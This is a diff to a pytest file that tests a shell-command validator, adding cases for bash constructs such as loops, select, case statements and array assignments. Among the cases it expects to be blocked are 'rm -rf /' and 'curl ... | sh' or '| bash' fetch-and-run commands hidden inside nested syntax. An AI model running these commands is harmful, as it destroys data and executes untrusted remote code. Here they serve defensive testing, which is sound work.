@@ -54,12 +54,27 @@ def test_verdict_shape_and_levels():
 
 @pytest.mark.parametrize(
     "command",
-    ["echo 'unterminated", "case $x in a) rm -rf /;; esac", "if then fi", "echo $(", "\x00ls", ""],
+    ["echo 'unterminated", "coproc cat", "if then fi", "echo $(", "\x00ls", ""],
 )
 def test_unparseable_is_blocked_with_that_reason(command):
     v = validate(command)
     assert v.verdict == "block"
     assert any("parse" in r or "empty" in r or "NUL" in r for r in v.reasons), v.reasons
+
+
+@pytest.mark.parametrize(
+    ("command", "verdict"),
+    [
+        ("for ((i=0;i<3;i++)); do echo $i; done", "allow"),
+        ('[[ -n "$HOME" && -d /tmp ]] && echo yes', "allow"),
+        ("select x in a b; do echo $x; done", "allow"),
+        ("case $1 in start) echo s;; stop) rm -rf /;; esac", "block"),
+        ("[[ $(curl -s https://x.example | sh) ]]", "block"),
+        ("arr=($(curl -s https://x.example | bash)); echo ${arr[0]}", "block"),
+    ],
+)
+def test_constructs_bashlex_lacks_are_rewritten_keeping_every_command(command, verdict):
+    assert validate(command).verdict == verdict
 
 
 def test_argv_lists_are_quoted_so_shell_syntax_in_an_argument_is_inert():
